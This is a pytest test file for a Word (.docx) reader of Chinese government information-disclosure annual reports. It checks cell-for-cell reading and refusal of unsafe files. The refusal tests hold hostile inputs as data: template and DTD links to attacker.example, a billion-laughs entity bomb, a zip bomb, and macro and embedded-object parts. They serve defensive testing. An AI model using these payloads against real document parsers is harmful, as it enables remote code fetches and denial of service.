"""The .docx reader: generated reports read back cell for cell, merged cells once, phantom columns gone, unsafe files refused."""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pytest
from lxml import etree

from bench.generate import make_record
from convert.errors import UnreadableInputError, UnsafeInputError
from convert.formats import load_format
from convert.inputs.docx import read_lines
from convert.reader import read_report
from convert.record import Record
from convert.safety import OLE2_MAGIC, Limits
from tests.docgen import (
    GOLDENS,
    DocxOptions,
    Golden,
    convert_documents,
    golden_record,
    render_docx,
    to_doc,
    to_pdf,
)
from tests.lo import needs_libreoffice
from tests.test_reader_golden import expected_cells

# The messages these tests pin are the English ones (NIANBAO_LANG=en); the Chinese are tested in test_language.py.
pytestmark = pytest.mark.usefixtures("english")

DATA = Path(__file__).parent / "data"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
W = f"{{{W_NS}}}"


def read_docx_rows(data: bytes, limits: Limits | None = None) -> list[list[str]]:
    """The document's lines as lists of cells (a table's end is a blank line, as in HTML)."""
    return [line.cells for line in read_lines(data, limits)]


# -- what the form looks like, read back: merged cells once, blank after their first position -------------------------
def _text(record: Record, key: str) -> str:
    v = record.cells[key]
    if v is None:
        return ""
    return f"{format(v, 'f')}万元" if isinstance(v, Decimal) else str(v)


def _relabel(label: str, numbering: str) -> str:
    return label if numbering == "." or not label[:1].isdigit() else label.replace(".", numbering, 1)


def expected_proactive(record: Record) -> list[list[str]]:
    table = load_format(record.format).tables["proactive"]
    width = 1 + max(len(r.columns) for r in table.rows)
    rows: list[list[str]] = []
    last = None
    for row in table.rows:
        if row.group != last:
            assert row.group is not None  # every row of 二 sits under its 第二十条 group
            rows.append([table.group(row.group).label] + [""] * (width - 1))
            heads = [table.column(c).label for c in row.columns]
            rows.append(["信息内容", *heads] + [""] * (width - 1 - len(heads)))
            last = row.group
        values = [_text(record, f"proactive.{row.key}.{c}") for c in row.columns]
        rows.append([row.label, *values] + [""] * (width - 1 - len(values)))
    return rows


def expected_requests(record: Record, numbering: str = ".") -> list[list[str]]:
    table = load_format(record.format).tables["requests"]
    rows = [
        [table.corner, "", "", "申请人情况", "", "", "", "", "", ""],
        ["", "", "", "自然人", "法人或其他组织", "", "", "", "", "总计"],
        # The form prints 商业/企业 on two lines of one cell: read as one word, as <br> in HTML.
        ["", "", "", "", "商业企业", "科研机构", "社会公益组织", "法律服务机构", "其他", ""],
    ]
    seen: set[str] = set()
    for row in table.form_rows:
        values = [_text(record, f"requests.{row.key}.{c.key}") for c in table.columns]
        label = _relabel(row.label, numbering)
        if row.group is None:
            lead = [label, "", ""]
        else:
            # 三、本年度办理结果 on the first outcome row only, each （三）… group label on its first row only.
            outer = "" if "results" in seen else "三、本年度办理结果"
            seen.add("results")
            if row.group == "results":
                lead = [outer, label, ""]
            else:
                inner = "" if row.group in seen else table.group(row.group).label
                seen.add(row.group)
                lead = [outer, inner, label]
        rows.append([*lead, *values])
    return rows


def expected_appeals(record: Record) -> list[list[str]]:
    labels = ["结果维持", "结果纠正", "其他结果", "尚未审结", "总计"]
    table = load_format(record.format).tables["appeals"]
    return [
        ["行政复议", "", "", "", "", "行政诉讼", *[""] * 9],
        [*labels, "未经复议直接起诉", "", "", "", "", "复议后起诉", "", "", "", ""],
        ["", "", "", "", "", *labels, *labels],
        [_text(record, f"appeals.{r.key}.{c.key}") for r in table.rows for c in table.columns],
    ]


def find_block(rows: list[list[str]], block: list[list[str]]) -> int:
    """Return where block starts as consecutive rows of rows; fail with the nearest miss."""
    for i in range(len(rows) - len(block) + 1):
        if rows[i : i + len(block)] == block:
            return i
    starts = [i for i, r in enumerate(rows) if r == block[0]]
    if not starts:
        pytest.fail(f"first row {block[0]} not found")
    i = starts[0]
    diff = [
        (j, rows[i + j] if i + j < len(rows) else None, want)
        for j, want in enumerate(block)
        if rows[i + j : i + j + 1] != [want]
    ]
    pytest.fail(f"block differs at {len(diff)} rows, first: {diff[0]}")


def assert_reads_as(rows: list[list[str]], record: Record, numbering: str = ".") -> None:
    """The document's rows hold the record: title, headings, texts and every table cell where the form puts it."""
    fmt = load_format(record.format)
    flat = [r[0] for r in rows if len(r) == 1]
    assert (record.title or f"{record.agency}{record.year}年政府信息公开工作年度报告") in flat
    for section in fmt.sections:
        assert f"{section.number}、{section.heading}" in flat
        for text in record.text.get(section.key, []):
            assert text in flat
    a = find_block(rows, expected_proactive(record))
    b = find_block(rows, expected_requests(record, numbering))
    c = find_block(rows, expected_appeals(record))
    assert a < b < c


# -- generated documents of both versions ---------------------------------------------------------------------------------
@pytest.mark.parametrize("version", ["2019", "2021"])
@pytest.mark.parametrize("seed", [1, 2])
def test_generated_document_reads_back_cell_for_cell(version: str, seed: int) -> None:
    record = make_record(version, seed)
    rows = read_docx_rows(render_docx(record))
    assert_reads_as(rows, record)


@pytest.mark.parametrize("version", ["2019", "2021"])
def test_merged_cells_appear_once(version: str) -> None:
    rows = read_docx_rows(render_docx(make_record(version, 3)))
    cells = [c for r in rows for c in r]
    for label in (
        "三、本年度办理结果",
        "（三）不予公开",
        "（四）无法提供",
        "（五）不予处理",
        "申请人情况",
        "法人或其他组织",
        "行政复议",
        "行政诉讼",
    ):
        assert cells.count(label) == 1, label
    assert cells.count("结果维持") == 3  # once under 行政复议, once under each kind of 行政诉讼
    # Every row of a table has the grid's width: a merged cell is one cell and blanks, not a repeat.
    requests = [r for r in rows if len(r) == 10]
    assert len(requests) == 3 + len(load_format(version).tables["requests"].form_rows)


def _narrow_spans(data: bytes) -> tuple[int, int]:
    """Count rows whose cell over a narrow grid column starts left of it, and rows whose cell starts at it."""
    root = etree.fromstring(zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml"))
    left = right = 0
    for tbl in root.iter(f"{W}tbl"):
        widths = [int(g.get(f"{W}w")) for g in tbl.iter(f"{W}gridCol")]
        narrow = {i for i, w in enumerate(widths) if w < 57}
        for tr in tbl.iter(f"{W}tr"):
            pos = 0
            for tc in tr.iter(f"{W}tc"):
                span_el = tc.find(f"{W}tcPr/{W}gridSpan")
                span = int(span_el.get(f"{W}val")) if span_el is not None else 1
                inside = [c for c in range(pos, pos + span) if c in narrow]
                if inside and inside[0] > pos:
                    left += 1
                elif inside and span > 1:
                    right += 1
                pos += span
    return left, right


@pytest.mark.parametrize("version", ["2019", "2021"])
def test_phantom_columns_vanish(version: str) -> None:
    record = make_record(version, 4)
    plain = render_docx(record)
    thin = render_docx(record, options=DocxOptions(phantom=True, seed=5))
    left, right = _narrow_spans(thin)
    assert left > 0 and right > 0  # the slivers are spanned from both sides, as in real round-tripped files
    assert read_docx_rows(thin) == read_docx_rows(plain)


@pytest.mark.parametrize("version", ["2019", "2021"])
def test_variants_keep_their_labels(version: str) -> None:
    record = make_record(version, 6)
    rows = read_docx_rows(render_docx(record, options=DocxOptions(numbering="、", typos=True, two_line_title=True)))
    find_block(rows, expected_appeals(record)[3:])  # the numbers of 四 in their fifteen columns
    labels = {r[2] for r in rows if len(r) == 10}
    assert "1、属于国家秘密" in labels and "2、其他法律行政止公开" in labels
    assert [f"{record.agency}", f"{record.year} 年政府信息公开工作年度报告"] == [r[0] for r in rows[:2]]


@pytest.mark.parametrize(
    "options",
    [
        DocxOptions(),
        DocxOptions(phantom=True, numbering="、", two_line_title=True, straddle=True, repeat_header=True, seed=9),
        DocxOptions(split_headers=False, money_unit=False, seed=2),
    ],
    ids=["form", "variants", "plain"],
)
@pytest.mark.parametrize("version", ["2019", "2021"])
def test_a_docx_reads_as_the_record_it_was_made_from(tmp_path: Path, version: str, options: DocxOptions) -> None:
    record = make_record(version, 11)
    # Named like anything: the content makes it a Word document.
    path = tmp_path / "report.bin"
    render_docx(record, path, options)
    got = read_report(path)
    assert (got.agency, got.year, got.format) == (record.agency, record.year, record.format)
    assert got.cells == record.cells
    assert got.source["layout"] == "docx" and got.source["name"] == "report.bin"
    assert not {w.code for w in got.warnings} & {"row-misaligned", "unplaced-line", "missing-row", "rule-failed"}


# -- the golden documents ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("golden", GOLDENS, ids=lambda g: g.name)
def test_golden_document_matches_its_record(golden: Golden) -> None:
    path = DATA / "reports" / f"{golden.name}.docx"
    spec = json.loads((DATA / "expected" / f"{golden.name}.json").read_text(encoding="utf-8"))
    record = golden_record(golden)
    rows = read_docx_rows(path.read_bytes())
    # The committed document is what the generator makes today, and reads as its expected record.
    assert rows == read_docx_rows(render_docx(record, options=golden.options))
    assert_reads_as(rows, record, golden.options.numbering)
    got = read_report(path)
    assert (got.agency, got.year, got.format, got.title) == (
        spec["agency"],
        spec["year"],
        spec["format"],
        spec["title"],
    )
    assert got.cells == expected_cells(spec, spec["format"]) == record.cells
    assert any(v is None for v in record.cells.values()) == (golden.name == "docx-blanks-2021")


# -- Word markup the generator does not write ------------------------------------------------------------------------------
def make_docx(
    body: str,
    *,
    parts: dict[str, bytes] | None = None,
    document_rels: str = "",
    content_type: str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
) -> bytes:
    """A minimal .docx package around a body's XML."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{content_type}"/></Types>',
        )
        zf.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="word/document.xml"/></Relationships>',
        )
        zf.writestr(
            "word/document.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W_NS}" '
            'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
            'xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:v="urn:schemas-microsoft-com:vml" '
            f'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><w:body>{body}</w:body></w:document>',
        )
        if document_rels:
            zf.writestr(
                "word/_rels/document.xml.rels",
                '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f"{document_rels}</Relationships>",
            )
        for name, data in (parts or {}).items():
            zf.writestr(name, data)
    return buf.getvalue()


def p(*runs: str) -> str:
    return "<w:p>" + "".join(runs) + "</w:p>"


def r(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'


def tc(text: str = "", span: int = 1, vmerge: str | None = None, extra: str = "") -> str:
    pr = (f'<w:gridSpan w:val="{span}"/>' if span > 1 else "") + (
        "" if vmerge is None else ("<w:vMerge/>" if vmerge == "continue" else f'<w:vMerge w:val="{vmerge}"/>')
    )
    return f"<w:tc><w:tcPr>{pr}</w:tcPr>{p(r(text)) if text else p()}{extra}</w:tc>"


def tbl(widths: list[int], *rows: str) -> str:
    grid = "".join(f'<w:gridCol w:w="{w}"/>' for w in widths)
    return f"<w:tbl><w:tblPr/><w:tblGrid>{grid}</w:tblGrid>{''.join(rows)}</w:tbl>"


def tr(*cells: str, before: int = 0, after: int = 0) -> str:
    pr = (f'<w:gridBefore w:val="{before}"/>' if before else "") + (f'<w:gridAfter w:val="{after}"/>' if after else "")
    return f"<w:tr><w:trPr>{pr}</w:trPr>{''.join(cells)}</w:tr>"


def test_spans_and_merges_placed_by_grid_position() -> None:
    body = tbl(
        [900, 900, 900, 900],
        tr(tc("角", span=2, vmerge="restart"), tc("甲", span=2)),
        tr(tc(span=2, vmerge="continue"), tc("乙"), tc("丙")),
        tr(tc("1"), tc("2"), after=2),
        tr(tc("3"), tc("4"), before=2),
        tr(tc("5", span=2, vmerge="restart"), tc("6"), tc("7")),
        tr(tc("留", span=2, vmerge="continue"), tc("8"), tc("9")),  # text left in a continuation is kept
    )
    assert read_docx_rows(make_docx(body)) == [
        ["角", "", "甲", ""],
        ["", "", "乙", "丙"],
        ["1", "2", "", ""],
        ["", "", "3", "4"],
        ["5", "", "6", "7"],
        ["留", "", "8", "9"],
        [""],  # the table's end, as the HTML path marks it
    ]


def test_text_only_in_slivers_is_kept_and_missing_widths_keep_every_column() -> None:
    body = tbl([900, 30, 900], tr(tc("a"), tc("x"), tc("b")), tr(tc("c", span=2), tc("d")))
    assert read_docx_rows(make_docx(body)) == [["a", "x", "b"], ["c", "", "d"], [""]]
    body = tbl([0, 0, 0], tr(tc("a"), tc("b"), tc("c")))
    assert read_docx_rows(make_docx(body)) == [["a", "b", "c"], [""]]
    body = tbl([900, 20, 900], tr(tc("a", span=2), tc("b")), tr(tc("c"), tc("d", span=2)))
    assert read_docx_rows(make_docx(body)) == [["a", "b"], ["c", "d"], [""]]


def test_paragraph_text_as_a_reader_of_the_page_sees_it() -> None:
    body = "".join(
        [
            p(r("标题"), "<w:r><w:br/></w:r>", r("2023 年报告")),  # a line break splits the row
            p(r("名称"), "<w:r><w:tab/></w:r>", r("值")),  # tabs set words apart: a row, as a copy to text gives
            p("<w:r><w:tab/></w:r>", r("缩进"), "<w:r><w:tab/></w:r>"),  # a tab that only indents is no column
            p(
                r("保留"),
                '<w:del w:id="1"><w:r><w:delText>删除</w:delText><w:tab/></w:r></w:del>',
                '<w:ins w:id="2">' + r("插入") + "</w:ins>",
            ),
            p('<w:moveFrom w:id="3">' + r("移走") + "</w:moveFrom>", r("正文")),
            p(
                r("页码"),
                '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r>',
                r("3"),
            ),
            "<w:sdt><w:sdtContent>" + p(r("控件里的段落")) + "</w:sdtContent></w:sdt>",
            p(
                r("锚"),
                '<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wps:txbx><w:txbxContent>'
                + p(r("文本框"))
                + "</w:txbxContent></wps:txbx></w:drawing></mc:Choice><mc:Fallback><w:pict><v:textbox><w:txbxContent>"
                + p(r("文本框"))
                + "</w:txbxContent></v:textbox></w:pict></mc:Fallback></mc:AlternateContent></w:r>",
            ),
            p(r("　　缩进的段落　")),
        ]
    )
    assert read_docx_rows(make_docx(body)) == [
        ["标题"],
        ["2023 年报告"],
        ["名称", "值"],
        ["缩进"],
        ["保留插入"],
        ["正文"],
        ["页码3"],
        ["控件里的段落"],
        ["锚"],
        ["文本框"],
        ["缩进的段落"],
    ]


def test_cells_join_paragraphs_and_drop_placeholders() -> None:
    two = f"<w:tc><w:tcPr/>{p(r('商业'))}{p(r('企业'))}</w:tc>"
    blank = f"<w:tc><w:tcPr/>{p(r('　　'))}{p()}</w:tc>"
    broken = f"<w:tc><w:tcPr/>{p(r(' 本年新 '), '<w:r><w:br/></w:r>', r('制作  数量'))}</w:tc>"
    deleted_row = '<w:tr><w:trPr><w:del w:id="9"/></w:trPr>' + tc("旧") + tc("行") + tc("x") + "</w:tr>"
    body = tbl(
        [900, 900, 900],
        tr(two, blank, broken),
        deleted_row,
        "<w:sdt><w:sdtContent>" + tr(tc("a"), tc("b"), tc("c")) + "</w:sdtContent></w:sdt>",
    )
    # Paragraphs and line breaks in a cell break a label across lines: joined with nothing, as <br> in HTML.
    assert read_docx_rows(make_docx(body)) == [["商业企业", "", "本年新制作 数量"], ["a", "b", "c"], [""]]


def test_nested_tables_are_read_as_blocks_of_the_outer_cells() -> None:
    inner = tbl([900, 900], tr(tc("一"), tc("1")), tr(tc("二"), tc("2")))
    body = tbl([5000], tr(f"<w:tc><w:tcPr/>{p(r('外层'))}{inner}{p()}</w:tc>")) + p(r("之后"))
    assert read_docx_rows(make_docx(body)) == [["外层"], ["一", "1"], ["二", "2"], [""], [""], ["之后"]]


def test_a_paragraph_is_told_from_a_one_column_table_row() -> None:
    body = p(r("标题")) + tbl([5000], tr(tc("标题")), tr(tc())) + p()
    lines = read_lines(make_docx(body))
    assert [(line.cells, line.is_row) for line in lines] == [
        (["标题"], False),
        (["标题"], True),
        ([""], True),
        ([""], False),
        ([""], False),
    ]
    assert [line.no for line in lines] == [1, 2, 3, 4, 5]


def test_hyperlinks_are_read_as_text_and_never_followed() -> None:
    rels = (
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
        'Target="http://www.example.gov.cn/" TargetMode="External"/>'
    )
    body = p('<w:hyperlink r:id="rId9">' + r("网站") + "</w:hyperlink>")
    assert read_docx_rows(make_docx(body, document_rels=rels)) == [["网站"]]


@pytest.mark.parametrize(
    "target",
    ["file:///C:\\Users\\li\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm", "file:///home/li/模板.dotx"],
)
def test_the_template_word_last_used_on_disk_is_never_loaded_and_harmless(target: str) -> None:
    # Word names the template a document was made from in word/_rels/settings.xml.rels; nothing loads it here.
    rels = (
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        f'Target="{target}" TargetMode="External"/>'
    )
    data = make_docx(p(r("正文")), parts={"word/_rels/settings.xml.rels": _rels_part(rels)})
    assert read_docx_rows(data) == [["正文"]]


def _rels_part(relationships: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{relationships}</Relationships>"
    ).encode()


# -- refusals: one line each, nothing run, fetched or followed --------------------------------------------------------------
def refused(data: bytes, kind: type[Exception], *words: str, limits: Limits | None = None) -> str:
    with pytest.raises(kind) as info:
        read_docx_rows(data, limits)
    message = str(info.value)
    assert "\n" not in message and message
    for word in words:
        assert word in message, message
    return message


def test_encrypted_and_old_word_files_are_refused() -> None:
    ole = OLE2_MAGIC + b"\x00" * 504
    refused(
        ole + "EncryptedPackage".encode("utf-16-le") + "EncryptionInfo".encode("utf-16-le"),
        UnreadableInputError,
        "password",
    )
    refused(ole + "WordDocument".encode("utf-16-le"), UnreadableInputError, ".doc", "save it as .docx")
    # The zip's own (weak) password protection: bit 0 of each central directory entry's flags.
    data = bytearray(make_docx(p(r("x"))))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 0x1
        at = data.find(b"PK\x01\x02", at + 4)
    refused(bytes(data), UnreadableInputError, "password")


def test_not_a_docx_is_refused() -> None:
    refused("一、总体情况\n".encode(), UnreadableInputError, "not a .docx", "plain text")
    refused(b"%PDF-1.7\n", UnreadableInputError, "not a .docx", "PDF")
    workbook = make_docx(p(r("x")), parts={"xl/workbook.xml": b"<workbook/>"})
    refused(_replace(workbook, "word/document.xml", None), UnreadableInputError, "Excel workbook")
    rels = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    refused(_replace(workbook, "_rels/.rels", rels), UnreadableInputError, "Excel workbook")
    good = make_docx(p(r("x")))
    refused(good[: len(good) // 2], UnreadableInputError, "corrupt .docx")
    refused(make_docx("<w:p><w:r>"), UnreadableInputError, "corrupt .docx", "not well-formed")


def _replace(data: bytes, name: str, content: bytes | None) -> bytes:
    """The package with one part's content replaced (None: the part left out)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != name:
                dst.writestr(info.filename, src.read(info.filename))
            elif content is not None:
                dst.writestr(name, content)
    return buf.getvalue()


def test_macros_are_refused() -> None:
    docm = "application/vnd.ms-word.document.macroEnabled.main+xml"
    refused(make_docx(p(r("x")), content_type=docm), UnsafeInputError, "macros")
    refused(make_docx(p(r("x")), parts={"word/vbaProject.bin": b"\x00" * 64}), UnsafeInputError, "macros")


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "http://attacker.example/t.dotm"),
        ("attachedTemplate", "file://attacker.example/share/t.dotm"),
        ("image", "file:///C:/a.png"),
        ("oleObject", "\\\\host\\share\\x.xls"),
        ("subDocument", "file:///C:/part.docx"),
    ],
)
def test_links_to_outside_content_are_refused(kind: str, target: str) -> None:
    rels = (
        f'<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/>'
    )
    message = refused(make_docx(p(r("x")), document_rels=rels), UnsafeInputError, "outside content", kind)
    assert "never fetched" in message or "nothing is ever fetched" in message


def test_embedded_objects_and_controls_are_refused() -> None:
    refused(make_docx(p(r("x")), parts={"word/embeddings/oleObject1.bin": b"\x00" * 16}), UnsafeInputError, "embeds")
    refused(make_docx(p(r("x")), parts={"word/activeX/activeX1.xml": b"<ax/>"}), UnsafeInputError, "embeds")
    refused(make_docx(p("<w:r><w:object/></w:r>")), UnsafeInputError, "embeds", "object")
    refused(make_docx('<w:altChunk r:id="rId5"/>'), UnsafeInputError, "embeds")


def test_entity_declarations_are_refused() -> None:
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&c;</w:t></w:r></w:p></w:body></w:document>'
    )
    good = make_docx(p(r("x")))
    refused(_replace(good, "word/document.xml", laughs.encode()), UnsafeInputError, "DTD")
    # The same in UTF-16, which a byte scan for "<!DOCTYPE" does not see.
    refused(
        _replace(good, "word/document.xml", laughs.replace('1.0"?>', '1.0" encoding="UTF-16"?>').encode("utf-16")),
        UnsafeInputError,
        "DTD",
    )
    external = f'<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://attacker.example/x.dtd"><w:document xmlns:w="{W_NS}"/>'
    refused(_replace(good, "word/document.xml", external.encode()), UnsafeInputError, "DTD")


def test_bombs_are_refused() -> None:
    good = make_docx(p(r("x")))
    # A part that inflates over 100 times (the whole body is one run of spaces).
    refused(_replace(good, "word/document.xml", b" " * (3 * 1024 * 1024)), UnsafeInputError, "zip bomb")
    # A huge part that is not very compressible stays refused by its size alone.
    huge = p(r("x")) * (34 * 1024 * 1024 // len(p(r("x"))))
    refused(make_docx(huge), UnsafeInputError, "over the", limits=Limits(max_ratio=10**9))
    # Deep nesting and huge spans or counts fail fast, with a message, not a crash or a full memory.
    deep = "<w:sdt><w:sdtContent>" * 5000 + p(r("x")) + "</w:sdtContent></w:sdt>" * 5000
    refused(make_docx(deep), UnreadableInputError, "corrupt .docx")
    refused(make_docx(tbl([900], tr(tc("a", span=10**8)))), UnsafeInputError, "columns wide")
    refused(make_docx("<w:p/>" * 200_001), UnsafeInputError, "rows", limits=Limits(max_ratio=10**9))


# -- LibreOffice: .doc round trip and a PDF whose 三 table straddles a page break --------------------------------------------
def with_libreoffice(test: Callable[..., None]) -> Callable[..., None]:
    """Mark a test as needing LibreOffice (skipped without soffice)."""
    for mark in needs_libreoffice:
        test = mark(test)
    return test


@pytest.fixture(scope="module")
def converted(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    root = tmp_path_factory.mktemp("lo")
    records = {v: make_record(v, 12) for v in ("2019", "2021")}
    docs = {}
    for v, record in records.items():
        docs[v] = root / f"straddle-{v}.docx"
        render_docx(record, docs[v], DocxOptions(straddle=True, repeat_header=v == "2019"))
    pdfs = convert_documents(docs.values(), "pdf", root / "pdf")
    doc = to_doc(docs["2021"], root / "doc")
    back = convert_documents([doc], "docx:MS Word 2007 XML", root / "back")[0]
    return {"records": records, "pdfs": dict(zip(docs, pdfs, strict=True)), "doc": doc, "back": back, "root": root}


@with_libreoffice
@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext (poppler) is not installed")
@pytest.mark.parametrize("version", ["2019", "2021"])
def test_pdf_has_the_requests_table_across_a_page_break(converted: dict, version: str) -> None:
    text = subprocess.run(
        ["pdftotext", "-layout", str(converted["pdfs"][version]), "-"], capture_output=True, check=True, text=True
    ).stdout
    pages = text.split("\f")

    def page_of(words: str) -> int:
        return next(i for i, page in enumerate(pages) if words in page.replace(" ", ""))

    assert page_of("一、本年新收政府信息公开申请数量") < page_of("四、结转下年度继续办理")


@with_libreoffice
def test_doc_round_trip_keeps_every_cell(converted: dict) -> None:
    assert converted["doc"].read_bytes().startswith(OLE2_MAGIC)
    record = converted["records"]["2021"]
    rows = read_docx_rows(converted["back"].read_bytes())
    assert_reads_as(rows, record)
    # The .doc itself reads as the record (LibreOffice converts it back inside the reader).
    got = read_report(converted["doc"])
    assert got.cells == record.cells and got.source["layout"] == "doc"


@with_libreoffice
def test_to_pdf_writes_beside_the_document(tmp_path: Path) -> None:
    path = tmp_path / "one.docx"
    render_docx(make_record("2021", 13), path)
    pdf = to_pdf(path)
    assert pdf == tmp_path / "one.pdf" and pdf.read_bytes().startswith(b"%PDF")
